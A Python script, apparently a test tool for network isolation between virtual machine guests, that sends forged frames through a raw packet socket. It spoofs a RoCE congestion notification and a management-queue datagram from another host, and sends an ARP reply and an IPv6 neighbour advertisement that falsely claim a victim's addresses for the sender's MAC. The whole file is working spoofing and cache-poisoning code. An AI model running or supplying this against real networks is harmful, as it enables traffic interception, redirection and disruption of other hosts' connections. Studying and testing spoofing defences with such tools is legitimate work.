#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Sends frames in the name of another host through a packet socket, one of each kind.

    forged_frames NETDEV VICTIM-MAC VICTIM VICTIM6 QPN SENDER SENDER6 CLAIMED

To the victim (its MAC, IPv4 and IPv6 address): a congestion notification for the queue pair QPN and a datagram to QP 1,
from SENDER; an ARP reply and a neighbour advertisement that say that CLAIMED and SENDER6 are at this guest's
MAC address.
"""

import ipaddress
import socket
import struct
import sys
import zlib

ETH_P_IP, ETH_P_ARP, ETH_P_IPV6 = 0x0800, 0x0806, 0x86DD
ICMPV6, UDP, ROCE_PORT = 58, 17, 4791
# Opcodes of RoCE (IBTA volume 1, 9.2; annex A17).
CNP, UD_SEND_ONLY = 0x81, 0x64
BECN = 0x40
GSI_QPN, GSI_QKEY = 1, 0x80010000
# A SEND of a class that no host knows, which the kernel discards.
MANAGEMENT_PACKET = b"\x01\x30\x01\x03" + bytes(252)
SOLICITED_OVERRIDE = 0x60000000


def checksum(data: bytes) -> int:
    """RFC 1071, of an even number of octets."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def roce(sender: bytes, victim: bytes, bth: bytes, rest: bytes) -> bytes:
    """An IPv4 packet with its invariant CRC (annex A17.3.1: fields that routers change count as ones)."""
    udp_length = 8 + len(bth) + len(rest) + 4
    udp = struct.pack(">HHH", 0xC000, ROCE_PORT, udp_length)
    begin = struct.pack(">HHH", 20 + udp_length, 0, 0x4000)
    addresses = sender + victim
    header = b"\x45\x00" + begin + struct.pack(">BBH", 64, UDP, 0) + addresses
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    masked = b"\x45\xff" + begin + struct.pack(">BBH", 0xFF, UDP, 0xFFFF) + addresses
    masked = b"\xff" * 8 + masked + udp + b"\xff\xff" + bth[:4] + b"\xff" + bth[5:] + rest
    return header + udp + b"\0\0" + bth + rest + struct.pack("<I", zlib.crc32(masked))


def bth(opcode: int, marks: int, qpn: int) -> bytes:
    """With the default P_Key, version 0 and PSN 0."""
    return struct.pack(">BBHII", opcode, 0, 0xFFFF, marks << 24 | qpn, 0)


def advertisement(source: bytes, victim: bytes, mac: bytes) -> bytes:
    """An IPv6 packet that says that SOURCE is at this MAC address (RFC 4861)."""
    body = struct.pack(">I", SOLICITED_OVERRIDE) + source + b"\x02\x01" + mac
    pseudo = source + victim + struct.pack(">II", 4 + len(body), ICMPV6)
    kind = b"\x88\x00"
    message = kind + struct.pack(">H", checksum(pseudo + kind + b"\0\0" + body)) + body
    return struct.pack(">IHBB", 6 << 28, len(message), ICMPV6, 255) + source + victim + message


def main() -> None:
    netdev, victim_mac, victim, victim6, qpn, sender, sender6, claimed = sys.argv[1:]
    with open(f"/sys/class/net/{netdev}/address") as file:
        mac = bytes.fromhex(file.read().strip().replace(":", ""))
    to = bytes.fromhex(victim_mac.replace(":", ""))
    victim, sender, claimed = (socket.inet_aton(text) for text in (victim, sender, claimed))
    victim6, sender6 = (ipaddress.IPv6Address(text).packed for text in (victim6, sender6))
    arp = struct.pack(">HHBBH", 1, ETH_P_IP, 6, 4, 2) + mac + claimed + to + victim
    deth = struct.pack(">II", GSI_QKEY, GSI_QPN)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((netdev, 0))
        for ethertype, packet in (
            (ETH_P_IP, roce(sender, victim, bth(CNP, BECN, int(qpn)), bytes(16))),
            (ETH_P_IP, roce(sender, victim, bth(UD_SEND_ONLY, 0, GSI_QPN), deth + MANAGEMENT_PACKET)),
            (ETH_P_ARP, arp),
            (ETH_P_IPV6, advertisement(sender6, victim6, mac)),
        ):
            s.send(to + mac + struct.pack(">H", ethertype) + packet)


if __name__ == "__main__":
    main()
